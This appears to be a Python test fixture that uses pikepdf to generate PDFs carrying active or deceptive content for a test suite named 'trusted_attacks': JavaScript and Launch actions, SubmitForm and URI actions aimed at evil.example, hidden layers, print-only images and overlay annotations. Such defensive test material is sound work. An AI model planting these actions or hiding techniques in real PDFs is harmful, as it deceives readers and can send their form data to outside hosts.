"""What the author's own program can put into a pack that is no plain document, for `trusted_attacks`."""

from __future__ import annotations

import random
from collections.abc import Callable
from io import BytesIO
from typing import Any

from pikepdf import Array, Dictionary, Name, Pdf, Stream, String

Change = Callable[[Pdf, random.Random], None]


def _script(chance: random.Random) -> Dictionary:
    """An action that does something; JavaScript in most cases."""
    others = (
        Dictionary(S=Name.Launch, F=String("calc.exe")), Dictionary(S=Name.URI, URI=String("https://evil.example/")),
        Dictionary(S=Name.SubmitForm, F=String("https://evil.example/")), Dictionary(S=Name.Named, N=Name.Print),
        Dictionary(S=Name.GoToR, F=String("other.pdf"), D=Array([0, Name.Fit])), Dictionary(S=Name.ResetForm),
    )  # fmt: skip
    if chance.random() < 0.5:
        return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    return chance.choice(others)


def _on_opening(pdf: Pdf, chance: random.Random) -> None:
    pdf.Root.OpenAction = _script(chance)


def _on_a_page(pdf: Pdf, chance: random.Random) -> None:
    chance.choice(list(pdf.pages)).obj.AA = Dictionary(O=_script(chance))


def _on_the_document(pdf: Pdf, chance: random.Random) -> None:
    pdf.Root.AA = Dictionary(WP=_script(chance))


def _by_name(pdf: Pdf, chance: random.Random) -> None:
    pdf.Root.Names.JavaScript = Dictionary(Names=Array([String("a"), _script(chance)]))


def _on_a_link(pdf: Pdf, chance: random.Random) -> None:
    link = next(
        each for page in pdf.pages for each in page.obj.get(Name.Annots, ()) if each.Subtype == Name.Link
    )
    del link[Name.Dest]
    link.A = _script(chance)


def _in_a_bookmark(pdf: Pdf, chance: random.Random) -> None:
    first = pdf.Root.Outlines.First
    for key in (Name.Dest, Name.A):
        if key in first:
            del first[key]
    first.A = _script(chance)


def _dynamic_form(pdf: Pdf, _chance: random.Random) -> None:
    pdf.Root.AcroForm.XFA = Stream(pdf, b"<xdp/>")


ACTING: tuple[Change, ...] = (
    _on_opening, _on_a_page, _on_the_document, _by_name, _on_a_link, _in_a_bookmark, _dynamic_form,
)  # fmt: skip


def _layer_of_a_page(pdf: Pdf, chance: random.Random) -> None:
    """Text that is printed and not shown, or the other way round."""
    layer = pdf.make_indirect(Dictionary(Type=Name.OCG, Name=String("x"), Usage=Dictionary()))
    page = pdf.pages[0]
    page.obj.Resources.Properties = Dictionary(L=layer)
    page.contents_add(Stream(pdf, b"/OC /L BDC 1 1 1 rg 0 0 600 800 re f EMC"))
    if chance.random() < 0.7:
        pdf.Root.OCProperties = Dictionary(OCGs=Array([layer]), D=Dictionary(OFF=Array([layer])))


def _layer_of_a_picture(pdf: Pdf, _chance: random.Random) -> None:
    group = Dictionary(Type=Name.OCMD, OCGs=Array())
    look = Stream(
        pdf, b"0 0 600 800 re f", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 600, 800]), OC=group
    )
    pdf.pages[0].obj.Resources.XObject = Dictionary(X=look)
    pdf.pages[0].contents_add(Stream(pdf, b"/X Do"))


def _another_picture_on_paper(pdf: Pdf, _chance: random.Random) -> None:
    def picture(**more: Any) -> Stream:
        return Stream(
            pdf, b"\0", Type=Name.XObject, Subtype=Name.Image, Width=1, Height=1, BitsPerComponent=8,
            ColorSpace=Name.DeviceGray, **more,
        )  # fmt: skip

    shown = picture(
        Alternates=Array([Dictionary(Image=pdf.make_indirect(picture()), DefaultForPrinting=True)])
    )
    pdf.pages[0].obj.Resources.XObject = Dictionary(X=pdf.make_indirect(shown))
    pdf.pages[0].contents_add(Stream(pdf, b"q 600 0 0 800 0 0 cm /X Do Q"))


def _only_shown(pdf: Pdf, chance: random.Random) -> None:
    """A link that nobody sees, or a signature that is not printed."""
    annotations = [each for page in pdf.pages for each in page.obj.get(Name.Annots, ())]
    chance.choice(annotations).F = chance.choice([2, 6, 36, 260])


def _portfolio(pdf: Pdf, _chance: random.Random) -> None:
    pdf.Root.Collection = Dictionary(View=Name.T)


SHOWING: tuple[Change, ...] = (
    _layer_of_a_page, _layer_of_a_picture, _another_picture_on_paper, _only_shown, _portfolio,
)  # fmt: skip


def _note(pdf: Pdf, chance: random.Random) -> None:
    kind = chance.choice(
        [
            "FreeText",
            "Text",
            "Stamp",
            "Square",
            "Highlight",
            "Redact",
            "Screen",
            "FileAttachment",
            "Watermark",
        ]
    )
    note = Dictionary(
        Type=Name.Annot, Subtype=Name(f"/{kind}"), Rect=Array([0, 0, 600, 800]), F=4, Contents=String("x")
    )
    page = pdf.pages[0].obj
    page.Annots = page.get(Name.Annots, Array())
    page.Annots.append(pdf.make_indirect(note))


def _text_field(pdf: Pdf, chance: random.Random) -> None:
    kind = chance.choice([Name.Tx, Name.Btn, Name.Ch])
    field = Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=kind, T=String("x"), Rect=Array([0, 0, 600, 800]), F=4
    )
    made = pdf.make_indirect(field)
    page = pdf.pages[0].obj
    page.Annots = page.get(Name.Annots, Array())
    page.Annots.append(made)
    pdf.Root.AcroForm.Fields.append(made)


LYING_OVER: tuple[Change, ...] = (_note, _text_field)


def saved(pdf: Pdf) -> bytes:
    out = BytesIO()
    pdf.save(out, deterministic_id=True)
    return out.getvalue()
